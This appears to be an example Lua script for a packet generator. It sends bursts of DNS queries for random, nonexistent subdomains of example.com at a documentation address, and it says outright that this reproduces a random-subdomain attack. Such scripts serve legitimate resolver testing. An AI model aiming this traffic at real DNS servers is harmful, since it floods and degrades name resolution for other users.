-- DNS queries for names that do not exist, each for another one, as in a random-subdomain attack:
--
--   tare send packet:eth0 -i 192.0.2.53 --dport 53 --script examples/dns.lua
--
-- Checksums and lengths follow by themselves.

local UDP = 34                          -- behind Ethernet and IPv4
local DNS = UDP + 8
local ZONE = "\7example\3com\0"         -- each label has its length before it
local QUESTION = "\0\1\0\1"             -- type A, class IN

local function label(length)
    local letters = {}
    for n = 1, length do
        letters[n] = string.char(math.random(97, 122))
    end
    return string.char(length) .. table.concat(letters)
end

function burst(b)
    for i = 1, b.count do
        local name = label(math.random(6, 12)) .. ZONE
        local size = DNS + 12 + #name + #QUESTION + 4
        b:set_size(i, size)
        b:set16(i, UDP, 1024 + b:seq(i) % 60000)       -- source port
        b:set16(i, DNS, b:seq(i))                      -- identification
        b:set(i, DNS + 2, "\1\0\0\1\0\0\0\0\0\0")      -- recursion desired; one question
        b:set(i, DNS + 12, name .. QUESTION)
    end
end
